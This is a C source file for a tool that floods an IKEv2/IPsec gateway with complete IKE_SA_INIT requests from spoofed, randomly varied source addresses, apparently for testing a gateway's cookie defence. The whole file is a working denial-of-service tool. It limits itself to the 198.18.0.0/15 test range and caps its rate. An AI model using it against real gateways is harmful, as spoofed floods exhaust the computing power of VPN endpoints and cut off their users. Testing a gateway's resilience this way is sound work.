/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * Begins IKE SAs with a gateway, each from another address and with an SPI of its own, and
 * answers nothing, as an attacker would who cannot see what comes back. The requests are
 * whole: a gateway that does not ask for a cookie computes a shared secret for each.
 */
#include <arpa/inet.h>
#include <err.h>
#include <netinet/ip.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/random.h>
#include <time.h>
#include <unistd.h>

#define IKE_PORT 500
#define SOURCES 0xc6120000u /* 198.18.0.0/15, for tests: RFC 2544 */
#define SOURCES_MASK 0x1ffffu
#define NS_PER_S 1000000000L
#define NONCE_LEN 32
#define RATE_MAX 10000

/* AES-GCM-128, PRF-HMAC-SHA2-256, ECP-256; and that group's generator for a public value. */
static const uint8_t proposal[] = {
	34,   0,  0, 40,  0, 0, 0, 36, 1, 1, 0, 3, 3, 0, 0, 12, 1, 0, 0, 20,
	0x80, 14, 0, 128, 3, 0, 0, 8,  2, 0, 0, 5, 0, 0, 0, 8,	4, 0, 0, 19,
};
static const uint8_t exchange[] = {
	40,   0,    0,	  72,	0,    19,   0,	  0,	0x6b, 0x17, 0xd1, 0xf2,
	0xe1, 0x2c, 0x42, 0x47, 0xf8, 0xbc, 0xe6, 0xe5, 0x63, 0xa4, 0x40, 0xf2,
	0x77, 0x03, 0x7d, 0x81, 0x2d, 0xeb, 0x33, 0xa0, 0xf4, 0xa1, 0x39, 0x45,
	0xd8, 0x98, 0xc2, 0x96, 0x4f, 0xe3, 0x42, 0xe2, 0xfe, 0x1a, 0x7f, 0x9b,
	0x8e, 0xe7, 0xeb, 0x4a, 0x7c, 0x0f, 0x9e, 0x16, 0x2b, 0xce, 0x33, 0x57,
	0x6b, 0x31, 0x5e, 0xce, 0xcb, 0xb6, 0x40, 0x68, 0x37, 0xbf, 0x51, 0xf5,
};

_Static_assert(sizeof(proposal) == 40 && sizeof(exchange) == 72,
	       "as they say themselves");

struct request {
	struct iphdr ip;
	uint16_t source_port, port, len, checksum; /* of UDP; none is right, too */
	uint8_t spi_i[8], spi_r[8];
	uint8_t next, version, type, flags;
	uint32_t mid, total;
	uint8_t proposal[sizeof(proposal)];
	uint8_t exchange[sizeof(exchange)];
	uint8_t nonce_header[4];
	uint8_t nonce[NONCE_LEN];
} __attribute__((packed));

#define BEFORE_IKE (sizeof(struct iphdr) + 8)

static void make(struct request *r, struct in_addr gateway)
{
	memset(r, 0, sizeof(*r));
	r->ip.version = 4;
	r->ip.ihl = 5;
	r->ip.ttl = 64;
	r->ip.protocol = IPPROTO_UDP;
	r->ip.tot_len = htons(sizeof(*r));
	r->ip.daddr = gateway.s_addr;
	r->source_port = r->port = htons(IKE_PORT);
	r->len = htons(sizeof(*r) - sizeof(struct iphdr));
	r->next = 33;
	r->version = 0x20;
	r->type = 34; /* IKE_SA_INIT */
	r->flags = 0x08;
	r->total = htonl(sizeof(*r) - BEFORE_IKE);
	memcpy(r->proposal, proposal, sizeof(proposal));
	memcpy(r->exchange, exchange, sizeof(exchange));
	r->nonce_header[3] = 4 + NONCE_LEN;
}

static void vary(struct request *r)
{
	uint32_t host;

	if (getrandom(r->spi_i, sizeof(r->spi_i), 0) != sizeof(r->spi_i) ||
	    getrandom(r->nonce, sizeof(r->nonce), 0) != sizeof(r->nonce) ||
	    getrandom(&host, sizeof(host), 0) != sizeof(host))
		err(2, "random numbers");
	r->ip.saddr = htonl(SOURCES | (host & SOURCES_MASK));
}

int main(int argc, char **argv)
{
	struct sockaddr_in to = { .sin_family = AF_INET };
	struct timespec pause = { 0 };
	struct request r;
	long rate, count;
	int fd;

	if (argc != 4 || inet_pton(AF_INET, argv[1], &to.sin_addr) != 1) {
		fprintf(stderr, "usage: initflood GATEWAY RATE COUNT\n");
		return 2;
	}
	rate = atol(argv[2]);
	count = atol(argv[3]);
	if (rate < 1 || rate > RATE_MAX)
		errx(2, "a rate from 1 to %d", RATE_MAX);
	pause.tv_nsec = rate == 1 ? NS_PER_S - 1 : NS_PER_S / rate;
	fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
	if (fd < 0)
		err(2, "raw socket");
	make(&r, to.sin_addr);
	for (long i = 0; i < count; i++) {
		vary(&r);
		if (sendto(fd, &r, sizeof(r), 0, (struct sockaddr *)&to, sizeof(to)) < 0)
			err(1, "sending");
		nanosleep(&pause, NULL);
	}
	printf("%ld requests\n", count);
	close(fd);
	return 0;
}
